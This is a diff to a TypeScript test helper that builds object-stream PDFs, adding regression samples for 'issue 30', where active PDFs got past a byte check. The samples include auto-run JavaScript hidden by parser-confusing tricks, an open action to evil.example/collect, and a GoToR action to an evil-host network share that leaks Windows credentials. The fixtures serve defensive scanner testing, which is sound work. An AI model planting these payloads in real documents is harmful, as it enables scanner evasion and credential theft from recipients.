@@ -20,17 +20,44 @@ export interface ObjectStreamPdfOptions {
   objectStreamPadding?: number;
   /** Trailer entries, e.g. an `/Encrypt` dictionary. */
   trailerEntries?: string;
+  /** Extra entries of the page, e.g. `/Contents 5 0 R`. */
+  pageEntries?: string;
+  /** Extra entries of the page's font resources (with `text`), e.g. `/XObject << /X1 4 0 R >>`. */
+  resourceEntries?: string;
+  /** Text drawn on the page (Helvetica, from a plain content stream), so a test can see the page survive. */
+  text?: string;
+  /** Entries written into the object stream's dictionary right after `/First`, e.g. `/Note (see 1 0 obj)`. */
+  objectStreamEntries?: string;
+  /** What comes between the object stream's dictionary and its `stream` keyword (default a line end). */
+  beforeObjectStreamKeyword?: string;
+  /** What ends the object stream's `stream` keyword line (default `\n`). */
+  objectStreamKeywordEnd?: string;
 }
+
+/** A content stream drawing `text` with the font named /F1. */
+const textContent = (text: string) => `BT /F1 18 Tf 20 150 Td (${text.replace(/[()\\]/g, (c) => `\\${c}`)}) Tj ET`;
 
 /** A one-page PDF whose catalog, pages, page and `extraObjects` live in one object stream. */
 export function objectStreamPdf(options: ObjectStreamPdfOptions = {}): Buffer {
+  const extraObjects = options.extraObjects ?? [];
+  // With text: the font is the last object packed, the content stream the first plain stream.
+  const fontNumber = 4 + extraObjects.length;
+  const objectStreamNumber = fontNumber + (options.text === undefined ? 0 : 1);
+  const textEntries =
+    options.text === undefined
+      ? ''
+      : `/Resources << ${options.resourceEntries ?? ''} /Font << /F1 ${fontNumber} 0 R >> >> /Contents ${objectStreamNumber + 1} 0 R `;
   const packed = [
     `<< /Type /Catalog /Pages 2 0 R ${options.catalogEntries ?? ''}>>`,
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
-    ...(options.extraObjects ?? []),
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${textEntries}${options.pageEntries ?? ''}>>`,
+    ...extraObjects,
+    ...(options.text === undefined ? [] : ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']),
   ];
-  const objectStreamNumber = packed.length + 1;
+  const plainStreams: Array<[string, string | Buffer]> = [
+    ...(options.text === undefined ? [] : [['', textContent(options.text)] as [string, string]]),
+    ...(options.plainStreams ?? []),
+  ];
   const bodies = packed.map((body) => `${body}\n`);
   let offset = 0;
   const index = bodies.map((body, position) => {
@@ -52,17 +79,23 @@ export function objectStreamPdf(options: ObjectStreamPdfOptions = {}): Buffer {
   const parts: Buffer[] = [Buffer.from('%PDF-1.5\n%\xE2\xE3\xCF\xD3\n', 'latin1')];
   const offsets = new Map<number, number>();
   const length = () => parts.reduce((sum, part) => sum + part.length, 0);
-  const writeStream = (number: number, dictionary: string, bytes: Buffer) => {
+  const writeStream = (number: number, dictionary: string, bytes: Buffer, beforeKeyword = '\n', keywordEnd = '\n') => {
     offsets.set(number, length());
     parts.push(
-      Buffer.from(`${number} 0 obj\n<< ${dictionary}/Length ${bytes.length} >>\nstream\n`, 'latin1'),
+      Buffer.from(`${number} 0 obj\n<< ${dictionary}/Length ${bytes.length} >>${beforeKeyword}stream${keywordEnd}`, 'latin1'),
       bytes,
       Buffer.from('\nendstream\nendobj\n', 'latin1'),
     );
   };
-  writeStream(objectStreamNumber, `/Type /ObjStm /N ${packed.length} /First ${Buffer.byteLength(header, 'latin1')} ${filterEntry}`, data);
+  writeStream(
+    objectStreamNumber,
+    `/Type /ObjStm /N ${packed.length} /First ${Buffer.byteLength(header, 'latin1')} ${options.objectStreamEntries ?? ''} ${filterEntry}`,
+    data,
+    options.beforeObjectStreamKeyword,
+    options.objectStreamKeywordEnd,
+  );
   let next = objectStreamNumber + 1;
-  for (const [dictionary, streamData] of options.plainStreams ?? []) {
+  for (const [dictionary, streamData] of plainStreams) {
     writeStream(next, `${dictionary} `, Buffer.isBuffer(streamData) ? streamData : Buffer.from(streamData, 'latin1'));
     next += 1;
   }
@@ -109,3 +142,35 @@ export const xfaScriptInObjectStream = () =>
       ],
     ],
   });
+
+/** Runs a script when the document opens, from an object stream the issue-15 byte check did not read (issue 30). */
+const openActionScript = (options: ObjectStreamPdfOptions) =>
+  objectStreamPdf({
+    catalogEntries: '/OpenAction 4 0 R ',
+    extraObjects: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'],
+    text: 'Receipt 30',
+    ...options,
+  });
+
+/**
+ * The five PDFs of issue 30 that passed the byte check and were stored and mailed as they came:
+ * three object-stream variants carrying an `/OpenAction` script, and open actions that leave the
+ * document (a web address, a file on a network share).
+ */
+export const ISSUE_30_ACTIVE_PDFS = {
+  /** A string in the object stream's dictionary that looks like an object header. */
+  'note that looks like an object header': () => openActionScript({ objectStreamEntries: '/Note (see 1 0 obj)' }),
+  /** A comment line that looks like an object header, between the dictionary and `stream`. */
+  'comment line before stream': () => openActionScript({ beforeObjectStreamKeyword: '\n% 9 0 obj\n' }),
+  /** `stream` followed by a space before the line end (CR LF: pdf-lib reads it; with a bare LF it cannot, and refuses). */
+  'space after the stream keyword': () => openActionScript({ objectStreamKeywordEnd: ' \r\n' }),
+  /** Opening the document opens a web address. */
+  'URI open action': () =>
+    objectStreamPdf({ catalogEntries: '/OpenAction << /S /URI /URI (https://evil.example/collect) >> ', text: 'Receipt 30' }),
+  /** Opening the document fetches a file from a network share (and hands it the staff member's Windows credentials). */
+  'GoToR open action to a network share': () =>
+    objectStreamPdf({
+      catalogEntries: '/OpenAction << /S /GoToR /F (\\\\\\\\evil-host\\\\share\\\\x.pdf) /D [0 /Fit] /NewWindow true >> ',
+      text: 'Receipt 30',
+    }),
+} as const;
